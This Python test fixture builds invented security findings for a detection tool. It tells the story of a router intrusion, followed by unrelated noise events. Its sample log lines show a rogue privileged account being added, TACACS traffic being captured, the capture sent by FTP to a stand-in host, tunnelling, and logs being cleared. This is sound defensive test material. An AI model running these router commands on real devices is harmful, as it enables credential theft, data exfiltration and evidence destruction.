"""Invented stories to test with: an intrusion on a carrier's edge, and the noise around it."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from seawall.model.behaviours import BEHAVIOURS
from seawall.model.entities import Entity, EntityType, Role
from seawall.model.finding import Evidence, Finding, finding_id
from seawall.model.severity import Severity

DAY = datetime(2026, 11, 21, tzinfo=UTC)
Name = tuple[EntityType, str, Role]


def at(clock: str, day: int = 0) -> datetime:
    """A moment on the day of the story: `22:01:06` UTC."""
    hours, minutes, seconds = (float(part) for part in clock.split(":"))
    return DAY + timedelta(days=day, hours=hours, minutes=minutes, seconds=seconds)


def finding(
    when: datetime,
    behaviour: str,
    *names: Name,
    severity: Severity = Severity.HIGH,
    confidence: int = 85,
    lines: Sequence[tuple[str, str]] = (),
    lasting: timedelta = timedelta(0),
    **more: Any,
) -> Finding:
    """A finding as a rule for `behaviour` would make it; `lines` are (origin, excerpt)."""
    known = BEHAVIOURS.get(behaviour)
    entities = tuple(sorted(Entity(*name) for name in names))
    lines = lines or ((f"syslog/router.log:{when:%H%M%S}", f"{when:%b %d %H:%M:%S} line about {behaviour}"),)
    raw = [f"{origin}{text}{when}".encode("utf-8", "surrogatepass") for origin, text in lines]
    ids = [hashlib.sha256(line).hexdigest()[:32] for line in raw]
    detector = more.pop("detector", f"rule-{behaviour.lower()}")
    title = more.pop("title", known.name if known else behaviour)
    return Finding(
        id=finding_id(detector, entities, ids[0]),
        detector=detector,
        title=title,
        severity=severity,
        confidence=confidence,
        first=when,
        last=when + lasting,
        count=len(lines),
        entities=entities,
        why=more.pop("why", title),
        subject=next((e.value for e in entities if e.type == "device"), "unknown"),
        evidence=tuple(Evidence(i, origin, text) for i, (origin, text) in zip(ids, lines, strict=True)),
        evidence_total=len(lines),
        attack=more.pop("attack", (f"{known.technique}@18",) if known else ()),
        tags=more.pop("tags", (f"behaviour:{behaviour}",) if known else ()),
        **more,
    )


def device(name: str, role: Role = "target") -> Name:
    return ("device", name, role)


def account(name: str, role: Role = "actor") -> Name:
    return ("account", name, role)


def address(value: str, role: Role = "source") -> Name:
    return ("ip", value, role)


def intrusion() -> list[Finding]:
    """An edge router taken over its web management, emptied, tunnelled and wiped; then its neighbour."""
    edge, full, aaa = device("edge7"), device("edge7.ams.example.net"), device("192.0.2.11")
    helper, intruder, drop = account("net_support"), address("203.0.113.91"), "198.51.100.66"
    low = Severity.LOW

    def log(number: int, text: str) -> tuple[str, str]:
        return (f"syslog/edge7.log:{number}", text)

    def tac(number: int, clock: str, command: str) -> tuple[str, str]:
        line = f"Nov 21 {clock}\t192.0.2.11\tnet_support\tvty0\t203.0.113.91\tstop\tservice=shell\tcmd={command} <cr>"
        return (f"tacacs/acct.log:{number}", line)

    return [
        finding(at("21:58:11"), "R-02", edge, intruder, severity=low, confidence=40,
                lines=[("zeek/http.log:118", "203.0.113.91 GET /webui/ 200")]),
        finding(at("22:01:06"), "A-02", edge, account("vty_sys"),
                lines=[log(11, "<189>4107: edge7: Nov 21 2026 22:01:06.330 UTC: %SYS-5-CONFIG_P: Configured "
                               "programmatically by process SEP_webui_wsma_http from console as vty_sys on vty42949")]),
        finding(at("22:01:06.4"), "P-01", full, account("vty_sys"), account("net_support", "object"),
                severity=Severity.CRITICAL, confidence=90,
                lines=[log(12, "<189>4108: edge7: Nov 21 2026 22:01:06.350 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: "
                               "User:vty_sys  logged command:username net_support privilege 15 secret *")]),
        finding(at("22:01:20"), "A-03", edge, helper, intruder, confidence=90,
                lines=[log(13, "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: net_support] "
                               "[Source: 203.0.113.91]")]),
        finding(at("22:04:02"), "P-08", edge, helper, address("203.0.113.91", "object"),
                lines=[log(15, "%PARSER-5-CFGLOG_LOGGEDCMD: User:net_support  logged command:access-list 20 permit "
                               "203.0.113.91")]),
        finding(at("22:06:15"), "I-01", aaa, helper, intruder, severity=Severity.MEDIUM, confidence=70,
                lines=[tac(20, "22:06:15", "terminal length 0"), tac(21, "22:06:20", "show running-config"),
                       tac(22, "22:06:40", "show tacacs"), tac(24, "22:07:02", "dir bootflash:")],
                lasting=timedelta(seconds=47)),
        finding(at("22:09:00"), "C-01", aaa, helper, intruder, severity=Severity.CRITICAL, confidence=92,
                lines=[tac(25, "22:09:00", "monitor capture mycap interface GigabitEthernet0/0/0 both"),
                       tac(26, "22:09:11", "monitor capture mycap match ipv4 protocol tcp any any eq 49")],
                lasting=timedelta(seconds=11)),
        finding(at("22:09:30"), "C-01", edge, detector="rule-bufcap", severity=Severity.MEDIUM, confidence=60,
                lines=[log(27, "%BUFCAP-6-ENABLE: Capture Point mycap enabled.")]),
        finding(at("23:41:10"), "X-01", aaa, helper, intruder, address(drop, "target"),
                lines=[tac(29, "23:41:10", f"copy bootflash:tac.pcap ftp://u:*@{drop}/")]),
        finding(at("23:44:12"), "E-01", edge, confidence=80,
                lines=[log(32, "%IM-6-IOX_INST_INFO: R0/0: ioxman: IOX SERVICE guestshell LOG: Guestshell is up")]),
        finding(at("23:50:05"), "P-10", edge, helper, address(drop, "object"),
                lines=[log(35, f"%PARSER-5-CFGLOG_LOGGEDCMD: User:net_support  logged command:tunnel destination "
                               f"{drop}")]),
        finding(at("23:52:12"), "D-07", edge, helper, address("10.20.0.14", "object"),
                lines=[log(39, "%PARSER-5-CFGLOG_LOGGEDCMD: User:net_support  logged command:ip address 10.20.0.14 "
                               "255.255.255.255")]),
        finding(at("23:53:01"), "L-01", device("edge8.ams.example.net"), account("l.brandt"), address("10.20.0.14"),
                lines=[("syslog/edge8.log:40", "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: l.brandt] "
                                               "[Source: 10.20.0.14] [localport: 22]")]),
        finding(at("23:58:20"), "D-02", edge, confidence=75,
                lines=[log(42, "%SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.30.0.5 stopped - CLI initiated")]),
        finding(at("23:58:41"), "D-01", aaa, helper, intruder,
                lines=[tac(44, "23:58:41", "clear logging")]),
    ]  # fmt: skip


def noise() -> list[Finding]:
    """Findings that have nothing to do with it, on other devices and at other times."""
    return [
        finding(at("09:13:40"), "A-11", device("core2"), account("m.okafor"), address("192.0.2.31"),
                severity=Severity.LOW, confidence=30),
        finding(at("14:02:00"), "C-15", device("acc19"), account("svc-backup"), address("192.0.2.77"),
                severity=Severity.MEDIUM, confidence=55, learned=True),
    ]  # fmt: skip
